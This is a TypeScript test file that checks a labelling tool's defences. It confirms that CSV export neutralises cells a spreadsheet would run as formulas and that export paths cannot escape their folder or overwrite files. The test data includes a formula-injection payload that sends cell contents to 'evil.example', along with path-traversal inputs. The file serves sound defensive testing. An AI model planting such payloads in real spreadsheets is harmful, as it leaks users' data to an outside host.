import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../util/csv';
import { useTempDir } from '../test-support/temp-dir';
import { neutraliseCell, restoreCell } from './label-csv';
import { rubric, sampleCore } from './test-support/label-test-kit';

const tempDir = useTempDir();

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\tindented',
  '\rcarriage',
  "'already quoted",
  'plain = text',
];

describe('label CSV against spreadsheet formulas (OWASP)', () => {
  it('writes every cell a spreadsheet would evaluate as text, and reads each back as itself', () => {
    for (const cell of hostile) {
      const written = neutraliseCell(cell);
      expect(/^[=+\-@\t\r]/.test(written)).toBe(false);
      expect(restoreCell(written)).toBe(cell);
    }
    expect(neutraliseCell('=1')).toBe("'=1");
    expect(neutraliseCell('plain = text')).toBe('plain = text');
  });

  it('exports a note starting with "=" as text, and the file imports back to the same records', async () => {
    const dir = tempDir();
    const mine = await sampleCore(dir, 'mine.db');
    const ids = ['rb-0011', 'rb-0012', 'rb-0013', 'rb-0014', 'rb-0015', 'rb-0016', 'rb-0017', 'rb-0018'];
    for (const [i, note] of hostile.entries())
      await mine.invoke('labels.add', { annotator: 'cara', schema: 'category', target: rubric(ids[i]!), value: 'C02', note });
    const csv = await mine.invoke('labels.export', { out: join(dir, 'cara.csv'), format: 'csv', annotator: 'cara' });
    const rows = parseCsv(readFileSync(csv.path, 'utf8'));
    const noteColumn = rows[0]!.indexOf('note');
    expect(rows.slice(1).map((r) => r[noteColumn])).toEqual(hostile.map((n) => `'${n}`).map((n, i) => (hostile[i] === 'plain = text' ? 'plain = text' : n)));
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const theirs = await sampleCore(dir, 'theirs.db');
    expect((await theirs.invoke('labels.import', { paths: [csv.path] })).files[0]).toMatchObject({ labels: hostile.length, duplicates: 0, error: null });
    const strip = (labels: { id: number }[]) => labels.map(({ id: _id, ...rest }) => rest);
    expect(strip((await theirs.invoke('labels.history', { annotator: 'cara' })).labels)).toEqual(
      strip((await mine.invoke('labels.history', { annotator: 'cara' })).labels),
    );
    expect((await theirs.invoke('labels.history', { annotator: 'cara' })).labels[0]!.note).toBe(hostile[0]);
    mine.close();
    theirs.close();
  });
});

describe('export paths', () => {
  it('puts a relative out in the exports folder beside the corpus, refuses one that leaves it, and never overwrites', async () => {
    const dir = tempDir();
    const core = await sampleCore(dir);
    const first = await core.invoke('labels.export', { out: 'ana.csv', format: 'csv', annotator: 'ana' });
    expect(first).toMatchObject({ path: join(dir, 'exports', 'ana.csv'), renamedFrom: null });
    const second = await core.invoke('labels.export', { out: 'ana.csv', format: 'csv', annotator: 'ana' });
    expect(second).toMatchObject({ path: join(dir, 'exports', 'ana-2.csv'), renamedFrom: join(dir, 'exports', 'ana.csv') });
    await expect(core.invoke('labels.export', { out: '../escaped.csv', format: 'csv' })).rejects.toThrow(/leaves it/);

    const mine = join(dir, 'mine.jsonl');
    writeFileSync(mine, 'precious\n');
    const bundle = await core.invoke('export.bundle', { out: mine });
    expect(bundle).toMatchObject({ path: join(dir, 'mine-2.jsonl'), renamedFrom: mine });
    expect(readFileSync(mine, 'utf8')).toBe('precious\n');
    expect(readFileSync(bundle.path, 'utf8').split('\n').length).toBeGreaterThan(100);
    const relative = await core.invoke('export.bundle', { out: 'corpus.jsonl' });
    expect(relative).toMatchObject({ path: join(dir, 'exports', 'corpus.jsonl'), renamedFrom: null });
    await expect(core.invoke('export.bundle', { out: '../../x.jsonl' })).rejects.toThrow(/leaves it/);
    expect(readdirSync(join(dir, 'exports')).sort()).toEqual(['ana-2.csv', 'ana.csv', 'corpus.jsonl']);
    expect(readdirSync(dir).filter((f) => f.includes('partial'))).toEqual([]);
    core.close();
  });
});
